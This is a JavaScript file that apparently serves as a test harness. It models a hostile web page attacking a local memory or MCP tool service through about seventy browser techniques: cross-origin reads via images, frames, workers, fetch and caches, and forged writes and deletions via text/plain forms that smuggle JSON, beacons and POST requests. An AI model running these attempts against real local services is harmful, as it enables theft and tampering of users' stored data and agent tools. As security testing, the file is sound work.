// What a hostile page tries against a service of the machine on which the browser runs. It runs in the page.
//
// Each attempt sends its name in the query, so that its requests can be told apart. `attack` returns for each attempt
// all that the page could read of the response; "" if nothing.

async function attack({ service, own, paths, bodies }) {
  // Long enough that the browser sends the request: that of a hidden frame or a preload ends in no event.
  const PATIENCE = 1500;
  const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
  const at = (path, by) => `${service}${path}${path.includes("?") ? "&" : "?"}x-by=${encodeURIComponent(by)}`;
  const find = (by) => at(paths.search, by);

  const element = (name, attributes, read = () => "") => (by) =>
    new Promise((done) => {
      const made = document.createElement(name);
      made.onload = made.onloadeddata = () => done(read(made));
      made.onerror = () => done(read(made));
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value === find ? find(by) : value);
      document.body.append(made);
      setTimeout(() => done(read(made)), PATIENCE / 2);
    });
  const inside = (frame) => frame.contentDocument?.documentElement?.outerHTML ?? "";
  const drawn = (image) => {
    const canvas = document.createElement("canvas");
    canvas.getContext("2d").drawImage(image, 0, 0);
    return canvas.toDataURL() && image.naturalWidth ? "pixels" : "";
  };
  const rules = ({ sheet }) => (sheet ? [...sheet.cssRules].map((rule) => rule.cssText).join() : "");
  const style = (text) => async (by) => {
    const made = document.createElement("style");
    made.textContent = text(find(by));
    document.head.append(made);
    const probe = document.createElement("p");
    probe.className = "probe";
    probe.textContent = "probe";
    document.body.append(probe);
    await sleep(PATIENCE / 2);
    return made.sheet.cssRules[0].styleSheet ? rules({ sheet: made.sheet.cssRules[0].styleSheet }) : "";
  };
  const worker = (source) => (by) =>
    new Promise((done) => {
      const made = new Worker(source(find(by)));
      made.onmessage = ({ data }) => done(data);
      made.onerror = ({ message, filename }) => done(`${message} ${filename}`);
    });
  const script = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));

  const told = async (response) => `${[...response.headers].join()} ${await response.text()}`;
  const get = (options, path = paths.search) => async (by) => told(await fetch(at(path, by), options));
  const xhr = (method, path, options, headers = {}, body) => (by) =>
    new Promise((done) => {
      const request = new XMLHttpRequest();
      request.open(method, at(path, by));
      Object.assign(request, options);
      for (const [key, value] of Object.entries(headers)) request.setRequestHeader(key, value);
      request.onloadend = () => done(`${request.getAllResponseHeaders()} ${request.responseText}`);
      request.send(body);
    });
  const redirected = (options) => async (by) => told(await fetch(`${own}/redirect?${find(by)}`, options));

  const frame = (name) => {
    const made = document.createElement("iframe");
    made.name = name;
    document.body.append(made);
    return made;
  };
  // `text/plain` sends NAME=VALUE: JSON whose last string swallows the "=".
  const form = (method, path, enctype, fields) => async (by) => {
    const target = frame(`to ${by}`);
    const made = document.createElement("form");
    Object.assign(made, { method, enctype, target: target.name, action: at(path, by) });
    for (const [name, value] of Object.entries(fields(by))) {
      const field = document.createElement("input");
      Object.assign(field, { type: "hidden", name, value });
      made.append(field);
    }
    document.body.append(made);
    made.submit();
    await sleep(PATIENCE / 2);
    return inside(target);
  };
  const json = (body) => {
    const cut = body.lastIndexOf('"');
    return () => ({ [body.slice(0, cut)]: body.slice(cut) });
  };
  const asked = (by) => ({ ...Object.fromEntries(new URL(find(by)).searchParams), "x-by": by });
  const send = (path, options) => async (by) => told(await fetch(at(path, by), { method: "POST", ...options }));
  const typed = (type, body) => ({ headers: { "content-type": type }, body });
  const beacon = (path, body) => async (by) => `${navigator.sendBeacon(at(path, by), body) && ""}`;
  const opened = async (by) => {
    const made = open(find(by));
    await sleep(PATIENCE / 2);
    try {
      return made.document.documentElement.outerHTML;
    } finally {
      made.close();
    }
  };
  const cached = async (by) => {
    const cache = await caches.open("loot");
    const url = find(by);
    await cache.put(url, await fetch(url, { mode: "no-cors" }));
    return told(await cache.match(url));
  };
  const service_worker = async (by) => {
    await navigator.serviceWorker.register("/service_worker.js");
    const { active } = await navigator.serviceWorker.ready;
    const { port1, port2 } = new MessageChannel();
    active.postMessage({ reads: [find(by), at(paths.get, by)], writes: at("/memory", by), body: bodies.memory }, [port2]);
    return new Promise((done) => (port1.onmessage = ({ data }) => done(data)));
  };
  const socket = (by) =>
    new Promise((done) => {
      const made = new WebSocket(find(by).replace("http:", "ws:"));
      made.onmessage = ({ data }) => done(data);
      made.onclose = ({ reason }) => done(reason);
    });
  const events = (by) =>
    new Promise((done) => {
      const made = new EventSource(find(by), { withCredentials: true });
      made.onmessage = ({ data }) => done(data);
      made.onerror = () => done(made.close());
    });

  const attempts = {
    image: element("img", { src: find }, drawn),
    "image, anonymous": element("img", { crossorigin: "anonymous", src: find }, drawn),
    script: element("script", { src: find }),
    "script, anonymous": element("script", { crossorigin: "anonymous", src: find }),
    "script, module": element("script", { type: "module", src: find }),
    "style sheet": element("link", { rel: "stylesheet", href: find }, rules),
    preload: element("link", { rel: "preload", as: "fetch", href: find }),
    prefetch: element("link", { rel: "prefetch", href: find }),
    iframe: element("iframe", { src: find }, inside),
    object: element("object", { data: find }, inside),
    embed: element("embed", { src: find }),
    video: element("video", { preload: "auto", src: find }),
    audio: element("audio", { preload: "auto", src: find }),
    "style import": style((url) => `@import url("${url}");`),
    "style image": style((url) => `.probe { background: url("${url}") }`),
    "style font": style((url) => `@font-face { font-family: loot; src: url("${url}") } .probe { font-family: loot }`),
    worker: worker((url) => url),
    "worker, imported script": worker((url) => script(`importScripts("${url}"); postMessage("ran")`)),
    "worker, fetch": worker((url) => script(`fetch("${url}").then((r) => r.text()).catch(String).then(postMessage)`)),
    import: (by) => import(find(by)).then((module) => JSON.stringify(module)),
    "fetch, cors": get({}),
    "fetch, by id": get({}, paths.get),
    "fetch, list": get({}, paths.list),
    "fetch, tools": get({}, "/mcp"),
    "fetch, no cors": get({ mode: "no-cors" }),
    "fetch, no cors, cached": get({ mode: "no-cors", cache: "force-cache" }, paths.get),
    "fetch, cors, cached": get({ cache: "force-cache" }, paths.get),
    "fetch, credentials": get({ credentials: "include" }),
    "fetch, no cors, credentials": get({ mode: "no-cors", credentials: "include" }),
    "fetch, with a field": get({ headers: { "if-none-match": "*" } }, paths.get),
    "fetch, with a key": get({ headers: { "x-api-key": "guess" } }),
    "fetch, without a referrer": get({ mode: "no-cors", referrerPolicy: "no-referrer" }),
    "fetch, keepalive": get({ keepalive: true }),
    "fetch, head": get({ method: "HEAD", mode: "no-cors" }),
    "fetch, redirected": redirected({}),
    "fetch, no cors, redirected": redirected({ mode: "no-cors" }),
    "image, redirected": (by) => element("img", { src: `${own}/redirect?${find(by)}` }, drawn)(by),
    XMLHttpRequest: xhr("GET", paths.search, {}),
    "XMLHttpRequest, credentials": xhr("GET", paths.search, { withCredentials: true }),
    EventSource: events,
    WebSocket: socket,
    window: opened,
    "form, get": form("get", paths.search, "", asked),
    cache: cached,
    "service worker": service_worker,

    "form, text": form("post", "/memory", "text/plain", json(bodies.memory)),
    "form, text, tool": form("post", "/mcp", "text/plain", json(bodies.append)),
    "form, text, recall": form("post", "/mcp/recall/changes", "text/plain", json(bodies.forget)),
    "form, urlencoded": form("post", "/memory", "application/x-www-form-urlencoded", json(bodies.memory)),
    "form, multipart": form("post", "/memory", "multipart/form-data", json(bodies.memory)),
    "beacon, text": beacon("/memory", bodies.memory),
    "beacon, typed": beacon("/memory", new Blob([bodies.memory], { type: "application/json" })),
    "beacon, tool": beacon("/mcp", new Blob([bodies.append], { type: "text/plain" })),
    "post, text": send("/memory", { mode: "no-cors", body: bodies.memory }),
    "post, untyped": send("/memory", { mode: "no-cors", body: new Blob([bodies.memory]) }),
    "post, near JSON": send("/memory", { mode: "no-cors", ...typed("text/plain; application/json", bodies.memory) }),
    "post, JSON": send("/memory", typed("application/json", bodies.memory)),
    "post, JSON:API": send("/memory", typed("application/vnd.api+json", bodies.memory)),
    "post, keepalive": send("/memory", { keepalive: true, mode: "no-cors", body: bodies.memory }),
    "post, XMLHttpRequest": xhr("POST", "/memory", {}, { "content-type": "text/plain" }, bodies.memory),
    "tool, text": send("/mcp", { mode: "no-cors", body: bodies.append }),
    "tool, append": send("/mcp", typed("application/json", bodies.append)),
    "tool, search": send("/mcp", typed("application/json", bodies.search)),
    "tool, forget": send("/mcp", typed("application/json", bodies.forget)),
    "tool, list": send("/mcp", typed("application/json", bodies.tools)),
    "recall, text": send("/mcp/recall", { mode: "no-cors", body: bodies.search }),
    "recall, search": send("/mcp/recall", typed("application/json", bodies.search)),
    "recall, forget": send("/mcp/recall/changes", typed("application/json", bodies.forget)),
    patch: xhr("PATCH", paths.get, {}, { "content-type": "application/vnd.api+json" }, bodies.patch),
    delete: get({ method: "DELETE" }, paths.get),
    "delete, credentials": get({ method: "DELETE", credentials: "include" }, paths.get),
    ping: async (by) => {
      const made = document.createElement("a");
      Object.assign(made, { href: own, target: frame(by).name, ping: at("/memory", by) });
      document.body.append(made);
      made.click();
      return "";
    },
  };
  const run = async ([by, attempt]) => {
    const outcome = Promise.resolve()
      .then(() => attempt(by))
      .then((text) => `${text ?? ""}`)
      .catch((error) => `${error}`);
    return [by, await Promise.race([outcome, sleep(PATIENCE).then(() => "")])];
  };
  return Object.fromEntries(await Promise.all(Object.entries(attempts).map(run)));
}
